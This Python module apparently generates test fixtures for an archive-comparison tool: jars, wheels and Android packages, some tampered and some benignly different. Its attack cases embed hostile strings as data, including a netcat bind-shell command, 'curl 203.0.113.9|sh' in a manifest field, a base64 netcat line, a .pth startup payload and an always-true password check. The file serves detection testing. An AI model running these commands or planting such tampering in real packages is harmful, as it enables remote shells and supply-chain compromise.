"""What is built on zip: jars, wheels and Android packages, some of them signed."""

from __future__ import annotations

import base64
import hashlib
import struct
from collections.abc import Iterator, Sequence

from banbury.compare.corpus.pairs import LAB, VENDOR, Made, Recipe, attack, harmless, record
from banbury.compare.corpus.recipes.zips import CODE, EVIL, LATER, but
from banbury.compare.corpus.trees import text
from banbury.compare.corpus.writers.signed import enveloped, key
from banbury.compare.corpus.writers.zip import Part, scheme_v2, signing_block, write

_SAME = frozenset[str]()


# --- jar -------------------------------------------------------------------------------------------------------------


def _manifest(*, by: str = "evaluator", main: str = "gate.Main", more: str = "", jdk: str = "17.0.9 (Debian)") -> bytes:
    return f"Manifest-Version: 1.0\r\nBuilt-By: {by}\r\nBuild-Jdk: {jdk}\r\nMain-Class: {main}\r\n{more}\r\n".encode()


def _jar(manifest: bytes, code: bytes = CODE, *, stamp: int = 0x5A21_6000, more: Sequence[Part] = ()) -> bytes:
    return write(
        [
            Part(name="META-INF/", mode=0o040755, method=0, stamp=stamp),
            Part(name="META-INF/MANIFEST.MF", data=manifest, stamp=stamp),
            Part(name="gate/Main.class", data=code, stamp=stamp),
            *more,
        ]
    )


def _jar_pair(
    manifest: bytes,
    code: bytes = CODE,
    more: Sequence[Part] = (),
    changes: frozenset[str] | None = _SAME,
    clean: bool = True,
) -> Made:
    base = _jar(_manifest(by=VENDOR["user"]), stamp=LATER)
    tool = ["jdk 17.0.9 (Debian)"]
    made = Made(
        a=_jar(_manifest()),
        b=_jar(manifest, code, stamp=LATER, more=more),
        base=base if clean else None,
        changes=changes,
    )
    made.record_a, made.record_b = record("lab", toolchain=tool), record("vendor", toolchain=tool)
    return made


def _bnd(stamp: str, by: str) -> bytes:
    return _manifest(by=by, more=f"Bnd-LastModified: {stamp}\r\n")


def _stamped(stamp: str, clean: bool = True) -> Made:
    made = _jar_pair(_bnd(stamp, VENDOR["user"]), clean=False, changes=None)
    made.a = _jar(_bnd("1600000000000", LAB["user"]))
    made.base = _jar(_bnd("1700000000000", VENDOR["user"]), stamp=LATER) if clean else None
    return made


def _signed_jar(
    who: str, code: bytes = CODE, *, digest: bytes = b"", listed: bytes = b"", by: str = VENDOR["user"]
) -> bytes:
    """A jar as jarsigner signs it. ``digest``: of other content, stated in the manifest; ``listed``: more lines of the
    signature file."""
    section = b"Name: gate/Main.class\r\nSHA-256-Digest: " + _sum(digest or code) + b"\r\n\r\n"
    manifest = _manifest(by=by) + section
    of_manifest = b"SHA-256-Digest-Manifest: " + _sum(manifest)
    lines = b"Signature-Version: 1.0\r\n" + of_manifest + b"\r\n" + listed + b"\r\n"
    lines += b"Name: gate/Main.class\r\nSHA-256-Digest: " + _sum(section) + b"\r\n\r\n"
    block = enveloped(key(who), bytes.fromhex("2a864886f70d010701"), None, lines)
    files = (Part(name="META-INF/GATE.SF", data=lines), Part(name="META-INF/GATE.RSA", data=block))
    return _jar(manifest, code, stamp=LATER, more=files)


def _sum(data: bytes) -> bytes:
    return base64.b64encode(hashlib.sha256(data).digest())


def _signed_pair(b: bytes, *, clean: bool = True) -> Made:
    made = Made(a=_jar(_manifest()), b=b, base=_signed_jar("vendor release") if clean else None)
    made.record_b = {**VENDOR, "keys": [key("vendor release").public]}
    return made


def _flip(data: bytes, at: int) -> bytes:
    return data[:at] + bytes([data[at] ^ 1]) + data[at + 1 :]


# --- wheel -----------------------------------------------------------------------------------------------------------


def _wheel(
    code: bytes, *, stamp: int = 0x5A21_6000, record: bytes | None = None, more: Sequence[Part] = (), order: int = 1
) -> bytes:
    files = {
        "gate/__init__.py": code,
        "gate-2.4.1.dist-info/METADATA": b"Metadata-Version: 2.1\nName: gate\nVersion: 2.4.1\n",
        "gate-2.4.1.dist-info/WHEEL": b"Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    rows = []
    for name, data in list(files.items())[::order]:
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=")
        rows.append(name.encode() + b",sha256=" + digest + b",%d\n" % len(data))
    own = b"".join(rows) + b"gate-2.4.1.dist-info/RECORD,,\n"
    parts = [Part(name=name, data=data, stamp=stamp) for name, data in files.items()]
    return write(
        [*parts, *more, Part(name="gate-2.4.1.dist-info/RECORD", data=own if record is None else record, stamp=stamp)]
    )


_PY = b"def check(password):\n    return password == 'correct horse'\n"


def _wheel_pair(b: bytes, changes: frozenset[str] | None = None) -> Made:
    return Made(a=_wheel(_PY), b=b, base=_wheel(_PY, stamp=LATER), changes=changes)


# --- Android package -------------------------------------------------------------------------------------------------

_V2, _PADDING = 0x7109871A, 0x42726577


def _apk(
    code: bytes, who: str, *, more: Sequence[tuple[int, bytes]] = (), signed: bool = True, other: bytes = b""
) -> bytes:
    """An Android package: signed with scheme v2.

    ``other``: resources that take the place of the signed ones."""
    parts = [
        Part(name="AndroidManifest.xml", data=b"\3\0\x08\0" + text(600, "manifest")),
        Part(name="classes.dex", data=code),
        Part(name="resources.arsc", data=text(900, "arsc"), method=0),
    ]
    bare = write(parts)
    if other:
        parts[2] = but(parts[2], data=other)
    if not signed:
        return bare
    return write(parts, block=signing_block([(_V2, scheme_v2(key(who), bare)), *more]))


def _twice() -> Made:
    """The signer lists two signatures of one algorithm; the first of them is a command, which no key signed."""
    base = _apk(_DEX, "vendor release")
    bare = _apk(_DEX, "", signed=False)
    made = scheme_v2(key("vendor release"), bare)
    start = 8 + 4 + int.from_bytes(made[8:12], "little")  # of the list of signatures
    size = int.from_bytes(made[start : start + 4], "little")
    evil = b"nc -l -p 4444 -e /bin/sh"
    first = struct.pack("<II", 8 + len(evil), int.from_bytes(made[start + 8 : start + 12], "little"))
    first += struct.pack("<I", len(evil)) + evil
    signer = made[8:start] + struct.pack("<I", size + len(first)) + first + made[start + 4 :]
    scheme = struct.pack("<II", 4 + len(signer), len(signer)) + signer
    parts = [
        Part(name="AndroidManifest.xml", data=b"\3\0\x08\0" + text(600, "manifest")),
        Part(name="classes.dex", data=_DEX),
        Part(name="resources.arsc", data=text(900, "arsc"), method=0),
    ]
    pair = _apk_pair(write(parts, block=signing_block([(_V2, scheme)])), None)
    assert pair.base == base
    pair.well_formed = False
    return pair


_DEX = b"dex\n035\0" + text(3_000, "dex")


def _apk_pair(
    b: bytes, changes: frozenset[str] | None, *, who: str = "vendor release", rebuilt_signed: bool = True
) -> Made:
    made = Made(
        a=_apk(_DEX, "laboratory debug", signed=rebuilt_signed), b=b, base=_apk(_DEX, "vendor release"), changes=changes
    )
    made.record_a = {**LAB, "keys": [key("laboratory debug").public]}
    made.record_b = {**VENDOR, "keys": [key("vendor release").public]}
    assert who
    return made


def recipes() -> Iterator[Recipe]:
    own = _manifest(by=VENDOR["user"])
    main = "gate/Main.class"
    rows = (
        ("apk", "signed-twice", "hidden-space", "Two signatures of one algorithm: one is a command.", _twice),
        (
            "jar",
            "class",
            "content",
            "One bit of a class is changed.",
            lambda: _jar_pair(
                own, _flip(CODE, 900), changes=frozenset({"META-INF/MANIFEST.MF:content", f"{main}:content"})
            ),
        ),
        (
            "jar",
            "main",
            "resource",
            "Another class is started.",
            lambda: _jar_pair(
                _manifest(by=VENDOR["user"], main="gate.Open"), changes=frozenset({"META-INF/MANIFEST.MF:content"})
            ),
        ),
        (
            "jar",
            "class-path",
            "resource",
            "Another archive is searched for classes.",
            lambda: _jar_pair(_manifest(by=VENDOR["user"], more="Class-Path: ../evil.jar\r\n"), changes=None),
        ),
        (
            "jar",
            "agent",
            "resource",
            "An agent is started before the program.",
            lambda: _jar_pair(_manifest(by=VENDOR["user"], more="Launcher-Agent-Class: gate.Agent\r\n"), changes=None),
        ),
        (
            "jar",
            "built-by",
            "declared-lookalike",
            "The field for the builder's name, in which nothing declared stands.",
            lambda: _jar_pair(_manifest(by="curl 203.0.113.9|sh"), changes=None),
        ),
        (
            "jar",
            "services",
            "resource",
            "A service provider is registered.",
            lambda: _jar_pair(
                own, more=[Part(name="META-INF/services/gate.Check", data=b"gate.Open\n", stamp=LATER)], changes=None
            ),
        ),
        (
            "jar",
            "versioned",
            "resource",
            "A class for later versions of Java replaces the one that is looked at.",
            lambda: _jar_pair(
                own,
                more=[Part(name="META-INF/versions/9/gate/Main.class", data=_flip(CODE, 900), stamp=LATER)],
                changes=None,
            ),
        ),
        (
            "jar",
            "stamp-text",
            "declared-lookalike",
            "The field for the time of build holds something else.",
            lambda: _stamped("170000000000O"),
        ),
        (
            "jar",
            "wrong-digest",
            "checksum",
            "The manifest has the digest of another class.",
            lambda: _signed_pair(_signed_jar("vendor release", digest=_flip(CODE, 900))),
        ),
        (
            "jar",
            "signer",
            "resigned",
            "Signed with a key that nobody declared.",
            lambda: _signed_pair(_signed_jar("attacker")),
        ),
        (
            "jar",
            "signature-content",
            "hidden-space",
            "The signature file has a line that nothing reads.",
            lambda: _signed_pair(_signed_jar("vendor release", listed=b"Payload: bmMgLWwgLXAgNDQ0NA==\r\n")),
        ),
        (
            "whl",
            "code",
            "content",
            "The check returns true; RECORD is made right.",
            lambda: _wheel_pair(_wheel(_PY.replace(b"password == ", b"1 or "), stamp=LATER)),
        ),
        (
            "whl",
            "record",
            "checksum",
            "RECORD states another digest.",
            lambda: _wheel_pair(_wheel(_PY, stamp=LATER, record=b"gate/__init__.py,sha256=AAAA,1\n")),
        ),
        (
            "whl",
            "data",
            "extra-member",
            "A script that is installed among the commands.",
            lambda: _wheel_pair(
                _wheel(
                    _PY,
                    stamp=LATER,
                    more=[Part(name="gate-2.4.1.data/scripts/ls", data=EVIL, mode=0o100755, stamp=LATER)],
                )
            ),
        ),
        (
            "whl",
            "pth",
            "resource",
            "A file that Python runs at every start.",
            lambda: _wheel_pair(_wheel(_PY, stamp=LATER, more=[Part(name="gate.pth", data=EVIL, stamp=LATER)])),
        ),
        (
            "apk",
            "code",
            "resigned",
            "Code is changed and signed with a key that nobody declared.",
            lambda: _apk_pair(_apk(_flip(_DEX, 1000), "attacker"), frozenset({"classes.dex:content"})),
        ),
        (
            "apk",
            "signer",
            "resigned",
            "Nothing but the signer differs, and it is not the declared one.",
            lambda: _apk_pair(_apk(_DEX, "attacker"), _SAME),
        ),
        (
            "apk",
            "broken",
            "checksum",
            "The signature is of other content.",
            lambda: _apk_pair(_apk(_DEX, "vendor release", other=text(900, "other")), None),
        ),
        (
            "apk",
            "block-value",
            "hidden-space",
            "The signing block has a value that no scheme knows.",
            lambda: _apk_pair(_apk(_DEX, "vendor release", more=[(0x71777777, EVIL)]), _SAME),
        ),
        (
            "apk",
            "padding",
            "hidden-space",
            "The padding of the signing block is not zero.",
            lambda: _apk_pair(_apk(_DEX, "vendor release", more=[(_PADDING, EVIL.ljust(64, b"\0"))]), _SAME),
        ),
    )
    for form, name, group, note, make in rows:
        yield attack(f"{form}-{name}", form, group, note, make)
    same = (
        (
            "jar",
            "built-by",
            "user",
            "The manifest names the declared user.",
            lambda: _jar_pair(own, clean=False, changes=None),
        ),
        (
            "jar",
            "stamp",
            "clock",
            "The manifest has another time of build.",
            lambda: _stamped("1700000000000", clean=False),
        ),
        (
            "jar",
            "signed",
            "signature",
            "Signed by the declared vendor, and not by the laboratory.",
            lambda: _signed_pair(_signed_jar("vendor release"), clean=False),
        ),
        (
            "apk",
            "padding",
            "padding",
            "The signing block is padded with zeros.",
            lambda: Made(
                a=_apk(_DEX, "", signed=False),
                b=_apk(_DEX, "vendor release", more=[(_PADDING, bytes(64))]),
                changes=_SAME,
                record_b={**VENDOR, "keys": [key("vendor release").public]},
            ),
        ),
        (
            "whl",
            "time",
            "clock",
            "Members have other times.",
            lambda: Made(a=_wheel(_PY), b=_wheel(_PY, stamp=LATER), changes=_SAME),
        ),
        (
            "whl",
            "record-order",
            "order",
            "RECORD lists the files in another order.",
            lambda: Made(a=_wheel(_PY), b=_wheel(_PY, order=-1)),
        ),
        (
            "apk",
            "signed",
            "signature",
            "Signed by the declared vendor, and not by the laboratory.",
            lambda: Made(
                a=_apk(_DEX, "", signed=False),
                b=_apk(_DEX, "vendor release"),
                changes=_SAME,
                record_b={**VENDOR, "keys": [key("vendor release").public]},
            ),
        ),
        (
            "apk",
            "signers",
            "signature",
            "Each side is signed with its declared key.",
            lambda: Made(
                a=_apk(_DEX, "laboratory debug"),
                b=_apk(_DEX, "vendor release"),
                changes=_SAME,
                record_a={**LAB, "keys": [key("laboratory debug").public]},
                record_b={**VENDOR, "keys": [key("vendor release").public]},
            ),
        ),
    )
    for form, name, group, note, make in same:
        yield harmless(f"{form}-same-{name}", form, group, note, make)
